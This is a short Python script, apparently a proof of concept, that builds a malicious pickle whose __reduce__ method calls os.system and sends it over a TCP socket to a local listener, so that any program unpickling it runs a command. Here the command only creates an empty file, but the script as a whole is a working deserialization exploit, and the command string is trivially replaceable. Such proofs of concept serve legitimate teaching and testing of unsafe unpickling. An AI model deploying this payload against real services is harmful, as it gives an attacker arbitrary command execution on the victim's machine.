# SPDX-License-Identifier: MIT
# A pickle that, loaded by Python, runs a command of its sender's choice: here it only makes an empty file.
import os
import pickle
import socket
import sys


class Gift:
    def __reduce__(self):
        return os.system, ('touch ' + sys.argv[2],)


s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('127.0.0.1', int(sys.argv[1])))
s.sendall(pickle.dumps(Gift()))
s.close()
